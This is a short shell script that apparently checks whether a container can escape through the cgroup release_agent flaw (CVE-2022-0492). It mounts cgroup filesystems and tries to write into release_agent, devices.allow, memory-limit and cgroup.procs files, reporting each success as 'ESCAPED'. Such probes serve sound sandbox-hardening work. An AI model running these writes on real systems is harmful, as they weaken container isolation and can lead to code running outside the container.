#!/bin/sh
# does: has the kernel run a program outside by a cgroup's release_agent, or changes its own limits (CVE-2022-0492)
for kind in cgroup cgroup2; do
  mkdir -p /tmp/cg
  mount -t $kind -o rdma none /tmp/cg 2>/dev/null && echo "ESCAPED mounted $kind"
  mount -t $kind none /tmp/cg 2>/dev/null && echo "ESCAPED mounted $kind"
done
find /sys/fs/cgroup /tmp/cg -name release_agent -o -name notify_on_release -o -name devices.allow \
  -o -name memory.max -o -name memory.limit_in_bytes -o -name cgroup.procs 2>/dev/null |
while read -r file; do
  (echo /tmp/x > "$file") 2>/dev/null && echo "ESCAPED wrote $file"
done
true
